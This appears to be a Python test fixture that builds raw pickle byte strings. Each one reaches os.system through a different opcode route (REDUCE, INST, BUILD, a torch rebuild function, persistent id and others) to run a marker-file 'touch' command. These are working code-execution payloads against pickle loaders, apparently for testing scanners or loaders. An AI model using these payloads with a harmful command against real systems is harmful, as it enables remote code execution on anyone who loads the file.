"""Every opcode route by which a pickle can call something, each to create a marker file; none ends in STOP."""

from __future__ import annotations

import struct
from pathlib import Path


def text(word: str) -> bytes:
    """BINUNICODE."""
    raw = word.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def payload_routes(marker: Path) -> dict[str, bytes]:
    """Route -> opcodes that leave one value on the stack. Protocol 4 covers them all."""
    command = text(f"touch {marker}")
    stack_global = text("os") + text("system") + b"\x93"
    return {
        "REDUCE": b"cos\nsystem\n(" + command + b"tR",
        "INST": b"(" + command + b"ios\nsystem\n",
        "OBJ": b"(cos\nsystem\n" + command + b"o",
        "NEWOBJ": b"cos\nsystem\n(" + command + b"t\x81",
        "NEWOBJ_EX": stack_global + b"(" + command + b"t}\x92",
        "STACK_GLOBAL": stack_global + command + b"\x85R",
        "BUILD": b"cos\nsystem\n)R}(" + text("__setstate__") + b"cos\nsystem\nub" + command + b"b",
        "newobj function": b"ccopyreg\n__newobj__\ncos\nsystem\n" + command + b"\x86R",
        "rebuild": b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nN(" + command + b"tNtR",
        "persistent id": b"(" + text("module") + b"cos\nsystem\nNNtQ(" + command + b"tR",
        "memo": b"cos\nsystem\np99\n0g99\n(" + command + b"tR",
    }
